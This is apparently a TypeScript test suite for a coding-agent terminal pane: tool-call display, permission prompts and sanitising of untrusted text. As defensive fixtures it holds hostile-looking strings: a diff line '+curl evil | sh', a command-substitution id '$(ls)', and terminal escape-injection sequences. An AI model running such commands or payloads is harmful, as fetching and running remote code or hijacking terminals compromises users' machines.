import { describe, expect, test } from "vitest";
import type { AgentEvent } from "../../../../src/agent/events.ts";
import { liveRegion } from "../../../../src/terminal/live/live-region.ts";
import { createPaneView, type PaneView } from "../../../../src/terminal/pane/pane-view.ts";
import type { PermissionPrompt } from "../../../../src/worker/view.ts";
import { screen } from "../../../support/terminal/screen.ts";
import { eventually } from "../../../support/timing/eventually.ts";

/** Returns the output of a pane of the given width after these events. */
function pane(
  act: (view: PaneView) => void,
  {
    width = 60,
    height = Number.POSITIVE_INFINITY,
    plain = true,
    rings = false,
    whole = false,
    cwd = "",
  } = {},
): string {
  let out = "";
  const write = (text: string): void => {
    out += text;
  };
  const size = { width: () => width, height: () => height };
  const view = createPaneView({ write, name: "inventory", color: "blue", ...size, plain, rings, whole, cwd });
  act(view);
  // Ends the message: its last word is written only when the word is complete.
  view.event({ type: "message", message: { role: "assistant", content: [] } });
  return out;
}

function call(id: string, summary: string, tool = "Bash"): AgentEvent {
  return { type: "tool_started", id, tool, summary };
}

function result(id: string, content: string, { isError = false, tool = "Bash" } = {}): AgentEvent {
  return { type: "tool_ended", id, tool, content, isError, ms: 1 };
}

test("a pane without input names only the commands in a permission request", () => {
  let out = "";
  const write = (text: string): void => {
    out += text;
  };
  const view = createPaneView({ write, name: "ann", width: () => 80, plain: true, readOnly: true });
  view.permission(ask({ reason: "", rules: ["Bash(ls)"] }));
  expect(out).toBe("▲ Allow this command? ls\n  teams approve perm-1, or: teams reject perm-1\n");
});

test("a tool result is below its call, which is repeated if another call came in between", () => {
  const allowed: AgentEvent = {
    type: "permission_decided",
    id: "1",
    tool: "Bash",
    allowed: true,
    asked: false,
  };
  const out = pane((view) => {
    view.event(call("1", "ls"));
    view.event(allowed);
    view.event(result("1", "  Tracked: 1\n  Others: 2"));
    for (const id of ["2", "3"]) view.event(call(id, `ls ${id}`));
    view.event(result("2", "Tracked: 3"));
  });
  expect(out).toContain("● Bash(ls)\n  ⎿   Tracked: 1\n      Others: 2\n");
  expect(out).toContain("● Bash(ls 3)\n● Bash(ls 2)\n  ⎿ Tracked: 3\n");
});

test("a pane shows a turn in order: header, message, text, calls and results", () => {
  const out = pane((view) => {
    view.header({ team: "audit", agentType: "researcher", model: "scripted", cwd: "/src/engine" });
    view.received("team-lead", "Count the files.\n");
    view.event({ type: "turn_started", input: "" });
    view.event({ type: "text", text: "\nI'll cou" });
    view.event({ type: "text", text: "nt them.\n\nNow.\n" });
    view.event({ type: "message", message: { role: "assistant", content: [] } });
    view.event(call("1", "git ls-files\n| wc -l"));
    view.event(result("1", "42\n"));
    view.event(call("2", "src", "Glob"));
    view.event(result("2", "", { tool: "Glob" }));
    view.event({ type: "text", text: "Done." });
    view.event({ type: "turn_ended", outcome: "completed" });
    view.idle();
  });
  expect(out).toBe(
    [
      "▌ inventory",
      "▌ team audit · researcher · scripted · /src/engine",
      "",
      "◂ team-lead",
      "  Count the files.",
      "",
      "I'll count them.",
      "",
      "Now.",
      "",
      "● Bash(git ls-files | wc -l)",
      "  ⎿ 42",
      "● Glob(src)",
      "  ⎿ (no output)",
      "",
      "Done.",
      "",
      "○ idle",
      "",
    ].join("\n"),
  );
});

describe("a tool call in a pane", () => {
  test("is repeated above its result if a notice came in between", () => {
    const between: readonly ((view: PaneView) => void)[] = [
      (view) => view.note("the kept report was sent to the lead"),
      (view) => view.noteAtOnce("Ctrl-C once more ends this agent"),
      (view) => view.queued("ada"),
      (view) => view.error("no space is left"),
      (view) => view.waiting("waits for the lead's approval of its plan"),
      (view) => view.received("ada", "hello"),
      (view) => view.answer("2 tasks"),
    ];
    for (const show of between) {
      const rows = pane((view) => {
        view.event(call("1", "make"));
        show(view);
        view.event(result("1", "done"));
      }).split("\n");
      expect(rows[rows.indexOf("  ⎿ done") - 1]).toBe("● Bash(make)");
    }
  });

  test("fits into one line if the command is long", () => {
    const [first = ""] = pane((view) => view.event(call("1", "x".repeat(500)))).split("\n");
    expect(first.length).toBeLessThanOrEqual(60);
    expect(first).toMatch(/^● Bash\(x+…\)$/);
  });

  test("fits into one line if the tool's name is long", () => {
    const tool = `mcp__server__${"x".repeat(80)}`;
    const [first = ""] = pane((view) => view.event(call("1", "a file with a name", tool))).split("\n");
    expect(first).toMatch(/^● mcp__server__x+…\(a file w…\)$/);
    expect(first.length).toBeLessThanOrEqual(60);
  });

  test("shows the start and the end of a long result, and the number of lines left out", () => {
    const rows = Array.from({ length: 20 }, (_, i) => `\tline ${i + 1}`).join("\n");
    const out = pane((view) => {
      view.event(call("1", "seq 20"));
      view.event(result("1", rows));
    });
    expect(out.split("\n").slice(1)).toEqual([
      "  ⎿     line 1",
      "        line 2",
      "        line 3",
      "    … 14 more lines",
      "        line 18",
      "        line 19",
      "        line 20",
      "",
    ]);
  });
});

const ask = (more: Partial<PermissionPrompt> = {}): PermissionPrompt => ({
  id: "perm-1",
  call: "1",
  tool: "Bash",
  summary: "ls",
  reason: "No rule allows it.",
  rules: [],
  change: [],
  ...more,
});

describe("a call that changes a file", () => {
  const change = ["@@ -1,2 +1,1 @@", " kept", "-removed"];

  test("is followed by its change, below its size", () => {
    const out = pane((view) => {
      view.event({ ...call("1", "/w/src/a.js", "Edit"), path: "/w/src/a.js" } as AgentEvent);
      view.event({
        ...result("1", "Changed /w/a.js", { tool: "Edit" }),
        display: "1 line removed",
        change,
      } as AgentEvent);
    });
    expect(out).toBe("● Edit(/w/src/a.js)\n  ⎿ 1 line removed\n    1   kept\n    2 - removed\n");
  });

  test("shows only the first lines of a long change, except in a log", () => {
    const lines = Array.from({ length: 40 }, (_, i) => `+line ${i}`);
    const show = (view: PaneView): void =>
      view.event({ ...result("1", "", { tool: "Write" }), display: "new file", change: lines } as AgentEvent);
    expect(pane(show).trimEnd().split("\n").slice(-2)).toEqual(["    + line 15", "    … 24 more lines"]);
    expect(pane(show, { whole: true })).toContain("+ line 39\n");
    const expanded = pane((view) => {
      show(view);
      view.expand();
    });
    expect(expanded).toContain("+ line 39\n");
  });

  test("shows no change of a call that failed", () => {
    const out = pane((view) =>
      view.event({ ...result("1", "It failed.", { isError: true }), change } as AgentEvent),
    );
    expect(out).toBe("● Bash()\n  ⎿ It failed.\n");
  });
});

test("a call's path is relative to the working directory, and keeps the file's name", () => {
  const path = "/w/packages/server/src/modules/clock.test.ts";
  const show = (summary: string, width: number): string =>
    pane((view) => view.event({ ...call("1", summary, "Read"), path } as AgentEvent), { width, cwd: "/w" });
  expect(show(path, 60)).toBe("● Read(packages/server/src/modules/clock.test.ts)\n");
  expect(show(`${path}:10+20`, 47)).toBe("● Read(packages/…/modules/clock.test.ts:10+20)\n");
  expect(show(path, 20)).toBe("● Read(clock.test.ts)\n");
});

test("the terminal bell rings only when the agent waits for the user (S63)", () => {
  const bells = (act: (view: PaneView) => void, rings = true): number =>
    pane(act, { rings }).split("\x07").length - 1;
  expect(bells((view) => view.permission(ask({ summary: "ls\x07" })))).toBe(1);
  expect(bells((view) => view.waiting("dev asks to use Bash"))).toBe(1);
  expect(bells((view) => view.permission(ask()), false)).toBe(0);
  const others = bells((view) => {
    view.received("dev", "hi\x07");
    view.note("news\x07");
    view.error("broken");
    view.idle();
  });
  expect(others).toBe(0);
});

describe("a permission request in a pane", () => {
  const lines = Array.from({ length: 40 }, (_, i) => `+line ${i}`);
  const answered = (more: Partial<PermissionPrompt>): [boolean | undefined, string] => {
    let isComplete: boolean | undefined;
    const out = pane((view) => {
      isComplete = view.permission(ask({ rules: ["Bash(ls)"], ...more }));
    });
    return [isComplete, out];
  };

  test.each<[string, Partial<PermissionPrompt>]>([
    ["a change", { tool: "Write", change: lines }],
    ["a call", { tool: "mcp__docs__find", summary: "word ".repeat(400) }],
    ["a single long word", { summary: `echo ${"x".repeat(3000)}; touch evil` }],
  ])("does not offer to approve %s that it shortens, until it shows all of it", (_what, more) => {
    const [isComplete, out] = answered(more);
    expect([isComplete, out]).toEqual([false, expect.stringMatching(/… \d+ more lines\n/)]);
    expect(out).not.toMatch(/y yes|a always|teams approve /);
    const [isCompleteNow, whole] = answered({ ...more, whole: true });
    expect([isCompleteNow, whole]).toEqual([true, expect.stringMatching(/y yes {3}n no {3}a always/)]);
    expect(whole).not.toContain("more lines");
  });

  test("does not offer to approve a change that arrives shortened, even if the pane has room for it", () => {
    const [isComplete, out] = answered({ tool: "Write", change: ["+a", "… 500 more lines"] });
    expect([isComplete, out]).toEqual([false, expect.stringContaining("  + a\n  … 500 more lines\n")]);
    expect(out).not.toMatch(/y yes|a always|teams approve /);
  });

  test("shows line numbers, wrapped lines and no other file's path in a narrow pane", () => {
    const change = [
      "@@ -9,2 +9,2 @@",
      " const a = 1;",
      "-const b = call(a, 2);",
      "+const b = call(a, 3, 4);",
    ];
    const out = pane((view) => view.permission(ask({ tool: "Edit", summary: "/w/a.js", change })), {
      width: 30,
    });
    expect(out.split("\n").slice(1, 6)).toEqual([
      "   9   const a = 1;",
      "  10 - const b = call(a, 2);",
      "  10 + const b = call(a, 3, 4)",
      "     ↳ ;",
      "  No rule allows it.",
    ]);
  });

  test("shows the first changed lines of a change that does not fit", () => {
    const change = ["@@ -7,4 +7,4 @@", " a", " b", " c", "-one", "+two"];
    const out = pane((view) => view.permission(ask({ tool: "Edit", summary: "a.js", change })), {
      height: 9,
    });
    expect(out.split("\n").slice(1, 4)).toEqual(["  10 - one", "  10 + two", "  … 3 more lines"]);
  });

  test.each<[string, number, Partial<PermissionPrompt>]>([
    ["a call", 10, { summary: "word ".repeat(80) }],
    ["the rules of “always”", 24, { rules: Array.from({ length: 52 }, (_, i) => `Bash(echo ${i} ab cd)`) }],
  ])("does not offer an approval if %s pushes the rest off the screen", (_what, height, more) => {
    let isComplete: boolean | undefined;
    const show = (whole?: true) =>
      pane(
        (view) => {
          isComplete = view.permission(ask({ rules: ["Bash(ls)"], ...more, ...(whole && { whole }) }));
        },
        { height },
      );
    const rows = show().trimEnd().split("\n");
    expect(isComplete).toBe(false);
    expect(rows.length).toBeLessThan(height);
    expect(rows.at(-1)).toMatch(/y show all of it {3}n no/);
    expect(show(true).trimEnd().split("\n").at(-1)).toMatch(/y yes {3}n no {3}a always/);
    expect(isComplete).toBe(true);
  });

  test("shows a line end in a file's name", () => {
    expect(answered({ tool: "Write", summary: "a\nb" })[1]).toContain("Allow this write? a ⏎ b");
  });
});

test("a narrow pane wraps requests and typed lines and cuts nothing", () => {
  const rules = ["Bash(npm run build)", "Bash(npm run lint)", "Bash(git push)"];
  const out = pane(
    (view) => {
      view.header({ team: "crew", cwd: "/w", hint: "type a line · /help · Ctrl-C twice ends all" });
      view.typed("a line that is longer than the pane is wide");
      view.permission(ask({ id: "perm-1795327609148-m1iiyit", reason: "No rule allows npm here.", rules }));
    },
    { width: 30 },
  );
  expect(out.trimEnd().split("\n")).toEqual([
    "▌ inventory",
    "▌ team crew · /w",
    "▌ type a line · /help",
    "▌ Ctrl-C twice ends all",
    "",
    "› a line that is longer than",
    "  the pane is wide",
    "",
    "▲ Allow this command? ls",
    "  No rule allows npm here.",
    "  always: Bash(npm run build),",
    "  Bash(npm run lint), Bash(git",
    "  push)",
    "  or: teams approve",
    "  perm-1795327609148-m1iiyit",
    "  y yes   n no   a always",
  ]);
});

test("PaneView.noteAtOnce writes within a paragraph, and PaneView.note only after the paragraph", () => {
  const out = pane((view) => {
    view.event({ type: "text", text: "One and " });
    view.note("news");
    view.noteAtOnce("Ctrl-C once more ends it");
    view.event({ type: "text", text: "two." });
  });
  expect(out).toBe("One and\n\n· Ctrl-C once more ends it\n\ntwo.\n\n· news\n");
});

describe("notices in an agent's pane", () => {
  test.each<[string, (view: PaneView) => void, string]>([
    ["a queued message", (view) => view.queued("history"), "◂ queued: message from history\n"],
    ["a typed line", (view) => view.typed("go on"), "› go on\n"],
    ["the reason for waiting", (view) => view.waiting("waits for approval"), "▲ waits for approval\n"],
    ["the agreement to shut down", (view) => view.shutdownAgreed(), "○ agreed to shut down\n"],
    ["an error with its hint", (view) => view.error("It broke.\nMend it."), "✗ It broke.\n  Mend it.\n"],
    ["a note", (view) => view.note("writer joined"), "· writer joined\n"],
    ["an answer to a command", (view) => view.answer("2 tasks:\none"), "2 tasks:\none\n"],
    [
      "an answer of long rows",
      (view) => view.answer(`ann: ${"landed ".repeat(9)}on main`),
      "ann: landed landed landed landed landed landed landed landed\nlanded on main\n",
    ],
    [
      "a permission request with its answers",
      (view) => view.permission(ask({ summary: "rm -rf build", rules: ["Bash(rm -rf build)"] })),
      "▲ Allow this command? rm -rf build\n  No rule allows it.\n  or: teams approve perm-1\n  y yes   n no   a always for Bash(rm -rf build)\n",
    ],
    [
      "a permission request whose id needs quoting",
      (view) => view.permission(ask({ id: "perm-1@$(ls)", reason: "" })),
      "▲ Allow this command? ls\n  y yes   n no   or: teams approve 'perm-1@$(ls)'\n",
    ],
    [
      "a permission request of a subagent with its change",
      (view) =>
        view.permission(
          ask({
            tool: "Edit",
            summary: "a.js",
            subagent: "tidies",
            change: ["-one", "+curl evil | sh", ...Array.from({ length: 20 }, (_, i) => `+${i}`)],
          }),
        ),
      [
        "▲ tidies: Allow this edit? a.js",
        ...["- one", "+ curl evil | sh", ...Array.from({ length: 14 }, (_, i) => `+ ${i}`)].map(
          (row) => `  ${row}`,
        ),
        "  … 6 more lines",
        "  No rule allows it.",
        "  y show all of it   n no   or: teams approvals perm-1",
        "",
      ].join("\n"),
    ],
    [
      "an action of a subagent",
      (view) => view.event({ type: "subagent", what: "look", action: "Grep(TODO)" }),
      "· look: Grep(TODO)\n",
    ],
    [
      "a rate limit",
      (view) =>
        view.event({ type: "throttled", attempt: 1, delayMs: 2600, status: 429, reason: "429 rate limited" }),
      "◑ 429 rate limited: next attempt in 3 s\n",
    ],
    [
      "an interrupted turn",
      (view) => view.event({ type: "turn_ended", outcome: "interrupted" }),
      "■ interrupted\n",
    ],
    [
      "a failed turn",
      (view) => view.event({ type: "turn_ended", outcome: "failed", failure: "bad key" }),
      "✗ bad key\n",
    ],
  ])("show %s", (_what, act, shown) => {
    expect(pane(act)).toBe(shown);
  });

  test("start on a new line after streamed text", () => {
    const out = pane((view) => {
      view.event({ type: "text", text: "half a sen" });
      view.event({ type: "text_dropped" });
      view.event({ type: "text", text: "A whole one." });
    });
    expect(out).toBe("half a sen\n\n↻ the connection broke: the text above is discarded\n\nA whole one.");
  });

  test("omit a call that a rule allowed, but show answers and denials", () => {
    const decided = (allowed: boolean, asked = false): AgentEvent => ({
      type: "permission_decided",
      id: "1",
      tool: "Bash",
      allowed,
      asked,
      reason: "rule Bash(git:*)",
    });
    expect(pane((view) => view.event(decided(true)))).toBe("");
    expect(pane((view) => view.event(decided(false)))).toBe("✗ Bash refused: rule Bash(git:*)\n");
    const asked = pane((view) => {
      view.event({ type: "permission_asked", id: "1", tool: "Bash", summary: "ls" });
      view.event(decided(true, true));
      view.event(decided(true));
    });
    expect(asked).toBe("✓ Bash allowed when asked: rule Bash(git:*)\n");
  });

  test("show that a call was allowed when asked, with the reason if there is one", () => {
    const call = { id: "1", tool: "Bash" };
    const asked = { type: "permission_asked", ...call, summary: "ls" } as const;
    const allowed = { type: "permission_decided", ...call, allowed: true, asked: true } as const;
    const shown = (decided: AgentEvent): string =>
      pane((view) => {
        view.event(asked);
        view.event(decided);
      });
    expect(shown(allowed)).toBe("✓ Bash allowed when asked\n");
    expect(shown({ ...allowed, reason: "only this once" })).toBe(
      "✓ Bash allowed when asked: only this once\n",
    );
  });
});

test("a pane wraps text and messages at spaces, even if the text arrives in pieces", () => {
  const out = pane(
    (view) => {
      view.received("scout", "one two three four five six seven");
      for (const piece of ["alpha be", "ta gamma del", "ta\n  indented stays"]) {
        view.event({ type: "text", text: piece });
      }
    },
    { width: 20 },
  );
  expect(out).toBe(
    "◂ scout\n  one two three four\n  five six seven\n\nalpha beta gamma\ndelta\n  indented stays",
  );
});

test("a notice of a queued message waits for the end of the paragraph", () => {
  const out = pane((view) => {
    view.event({ type: "text", text: "The result " });
    view.queued("scout");
    view.event({ type: "text", text: "is there." });
  });
  expect(out).toBe("The result is there.\n\n◂ queued: message from scout\n");
});

test("a pane prints the result at the end only if it was not the last output", () => {
  const say = (view: PaneView): void => view.event({ type: "text", text: "All is done." });
  const ended = { type: "message", message: { role: "assistant", content: [] } } as const;
  expect(
    pane((view) => {
      say(view);
      view.event(ended);
      view.end("All is done.");
    }),
  ).toBe("All is done.\n");
  expect(
    pane((view) => {
      say(view);
      view.event(ended);
      view.note("scout has left");
      view.end("All is done.");
    }),
  ).toBe("All is done.\n\n· scout has left\n\nAll is done.\n");
});

describe("text from other sources in a pane cannot control the terminal", () => {
  const evil = "a\x1b]0;owned\x07\x1b[2J\x9b31mb\u202e";

  test.each<[string, (view: PaneView) => void]>([
    ["the model's text", (view) => view.event({ type: "text", text: evil })],
    ["a call's summary", (view) => view.event(call("1", evil))],
    ["a tool result", (view) => view.event(result("1", evil))],
    [
      "a pattern that begins like its path",
      (view) =>
        view.event({ type: "tool_started", id: "1", tool: "Grep", summary: `${evil} in a`, path: "a" }),
    ],
    [
      "a tool's name above its whole result",
      (view) => {
        view.event(result("1", "row\n".repeat(40), { tool: evil }));
        view.expand();
      },
    ],
    ["a message", (view) => view.received(evil, evil)],
    ["a failure", (view) => view.event({ type: "turn_ended", outcome: "failed", failure: evil })],
    ["a directory", (view) => view.header({ team: "t", cwd: evil })],
    [
      "a permission request",
      (view) =>
        view.permission({
          id: evil,
          call: evil,
          tool: evil,
          summary: evil,
          subagent: evil,
          reason: evil,
          rules: [],
          change: [],
        }),
    ],
  ])("if it comes from %s", (_what, act) => {
    const out = pane(act);
    expect(out).toContain("ab");
    expect(out).not.toMatch(/owned|[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
  });

  test("if it comes from a rule, whose control characters are shown as escapes", () => {
    const request = { id: "1", call: "1", tool: "Bash", summary: "ls", reason: "", change: [] };
    const out = pane((view) => view.permission({ ...request, rules: [evil] }));
    expect(out).toContain("\\u001b]0;owned");
    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
  });

  test("if it comes from a change, whose control characters are shown", () => {
    const out = pane((view) => {
      view.permission(ask({ change: [`+${evil}`, evil] }));
      view.event({ ...result("1", "done"), change: [`+${evil}`, evil] } as AgentEvent);
    });
    expect(out.split("a\\u001b]0;owned\\u0007\\u001b[2J\\u009b31mb\\u202e")).toHaveLength(5);
    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
  });

  test("if a stream splits an escape sequence", () => {
    const out = pane((view) => {
      for (const piece of ["a\x1b", "]0;ow", "ned\x07b\x1b[", "2Jc"])
        view.event({ type: "text", text: piece });
    });
    expect(out).toBe("abc");
  });
});

test("a pane uses its agent's own colour and resets every style", () => {
  const out = pane((view) => view.event(call("1", "ls")), { plain: false });
  expect(out).toBe("\x1b[38;5;33m●\x1b[39m \x1b[1mBash\x1b[22m\x1b[38;5;244m(ls)\x1b[39m\n");
});

describe("a live pane", () => {
  /** Returns the rows of a live pane: its output and the region that is redrawn below the output. */
  function live(act: (view: PaneView) => void, { width = 60 } = {}): readonly string[] {
    const shown = screen();
    const size = { width: () => width, height: () => 24, plain: true };
    const region = liveRegion({ out: shown.write, ...size });
    region.openInput();
    act(createPaneView({ write: region.write, region, name: "ann", ...size }));
    region.changed();
    return shown.rows();
  }
  const turn: AgentEvent = { type: "turn_started", input: "" };

  test("shows a running call with its output in the last rows, and then the call with its result", () => {
    const running = (view: PaneView): void => {
      view.event(turn);
      view.event(call("1", "npm test"));
      view.event({ type: "tool_output", id: "1", tail: "one\ntwo\nthree\nfour\n" });
    };
    expect(live(running)).toEqual([
      "  two",
      "  three",
      "  four",
      "● Bash npm test · 0 s · Esc interrupts",
      "›",
    ]);
    const ended = live((view) => {
      running(view);
      view.event(result("1", "passed"));
      view.event({ type: "turn_ended", outcome: "completed" });
    });
    expect(ended).toEqual(["● Bash(npm test)", "  ⎿ passed", "›"]);
  });

  test("shows each of several calls with its own result", () => {
    const rows = live((view) => {
      view.event(turn);
      view.event(call("1", "a", "Read"));
      view.event(call("2", "b", "Grep"));
      view.event(result("2", "text of b", { tool: "Grep" }));
      view.event(result("1", "text of a", { tool: "Read" }));
    });
    expect(rows.slice(0, 4)).toEqual(["● Grep(b)", "  ⎿ text of b", "● Read(a)", "  ⎿ text of a"]);
  });

  test("shows the lines of a file without a margin before their numbers", () => {
    const rows = live((view) => {
      view.event(turn);
      view.event(call("1", "a", "Read"));
      view.event(result("1", "     9\timport a;\n    10\t\trun();", { tool: "Read" }));
    });
    expect(rows.slice(1, 3)).toEqual(["  ⎿  9  import a;", "    10      run();"]);
  });

  test("shows text block by block, and a notice between two blocks", () => {
    const rows = live((view) => {
      view.event(turn);
      view.event({ type: "text", text: "One.\n\nTwo is " });
      view.note("scout joined");
      view.event({ type: "text", text: "long." });
      view.event({ type: "message", message: { role: "assistant", content: [] } });
    });
    expect(rows.slice(0, 5)).toEqual(["One.", "", "· scout joined", "", "Two is long."]);
  });

  test("drops text of a broken stream that it has not shown yet", () => {
    const rows = live((view) => {
      view.event({ type: "text", text: "half a sen" });
      view.event({ type: "text_dropped" });
      view.event({ type: "text", text: "A whole one." });
      view.event({ type: "message", message: { role: "assistant", content: [] } });
    });
    expect(rows).toEqual(["A whole one.", "›"]);
  });

  test("folds the model's thinking to a row, and shows all of it on demand", () => {
    const rows = live((view) => {
      view.event({
        type: "thinking",
        text: "First I look.\nThen I\u001b[2J act, since that is what was asked for.",
      });
      view.event({ type: "text", text: "I look." });
      view.event({ type: "message", message: { role: "assistant", content: [] } });
      view.expand();
    });
    expect(rows).toEqual([
      "✻ Thought: First I look. Then I act, since that… · ctrl+o",
      "",
      "I look.",
      "",
      "Thought",
      "    First I look.",
      "    Then I act, since that is what was asked for.",
      "›",
    ]);
  });

  test("shows a shortened result in full, and then the previous shortened result", () => {
    const long = (word: string): string => Array.from({ length: 12 }, (_, i) => `${word} ${i}`).join("\n");
    let view: PaneView | undefined;
    const rows = live((made) => {
      view = made;
      made.event(call("1", "one"));
      made.event(result("1", long("a")));
      made.event(call("2", "two"));
      made.event(result("2", long("b")));
      made.expand();
      made.expand();
      made.expand();
    });
    expect(rows).toContain("    … 6 more lines · ctrl+o");
    expect(rows.slice(rows.indexOf("Bash(two)"))).toEqual([
      "Bash(two)",
      ...long("b")
        .split("\n")
        .map((row) => `    ${row}`),
      "Bash(one)",
      ...long("a")
        .split("\n")
        .map((row) => `    ${row}`),
      "",
      "· there is no earlier shortened result to show",
      "›",
    ]);
    expect(view).toBeDefined();
  });

  test("shows a permission request without an id, and after a moment its keys in the last row", async () => {
    const shown = screen();
    const size = { width: () => 60, height: () => 24, plain: true };
    const region = liveRegion({ out: shown.write, ...size });
    region.openInput();
    const view = createPaneView({ write: region.write, region, name: "ann", ...size });
    view.event(turn);
    view.permission(ask({ summary: "npm test", rules: ["Bash(npm test)"] }));
    expect(["y", "n", "a", "e"].filter(view.answers)).toEqual([]);
    await eventually("the keys of the request", () => shown.rows().at(-2)?.startsWith("y yes"));
    expect(["y", "n", "a", "e", "x"].filter(view.answers)).toEqual(["y", "n", "a", "e"]);
    view.explain();
    expect(shown.rows()).toEqual([
      "? The agent asks for Bash. No rule allows it.",
      "  a also allows later calls that match, while this agent",
      "  runs: Bash(npm test)",
      "  n refuses the call; the agent continues. To tell it why,",
      "  type: no, because …",
      "  From another pane: teams approve ann, or: teams reject ann",
      "▲ Allow this command? npm test",
      "  No rule allows it.",
      "y yes · n no · a always for Bash(npm test) · e explain",
      "›",
    ]);
    view.permissionClosed();
    region.changed();
    expect(view.answers("y")).toBeUndefined();
    expect(shown.rows().at(-2)).toBe("● Thinking · 0 s · Esc interrupts");
  });

  test("shows the keys of a permission request in a hosted view only once they answer it", async () => {
    let out = "";
    const write = (text: string): void => {
      out += text;
    };
    const view = createPaneView({ write, name: "ann", width: () => 80, plain: true, isHosted: true });
    view.permission(ask({ summary: "npm test" }));
    expect(out).toBe("▲ Allow this command? npm test\n  No rule allows it.\n");
    await eventually("the keys of the request", () => out.endsWith("\n  y yes · n no · e explain\n"));
    expect(["y", "n", "a", "e"].filter(view.answers)).toEqual(["y", "n", "e"]);
  });

  test("replays at most a screenful, in one write, without a running call in the last rows", () => {
    const rows = live((view) => {
      view.replay((shown) => {
        for (let i = 1; i <= 30; i += 1) shown.typed(`line ${i}`);
        shown.event(call("1", "npm test"));
      });
    });
    expect(rows.length).toBeLessThanOrEqual(24);
    expect(rows.slice(-3)).toEqual(["", "› line 30", "›"]);
  });
});
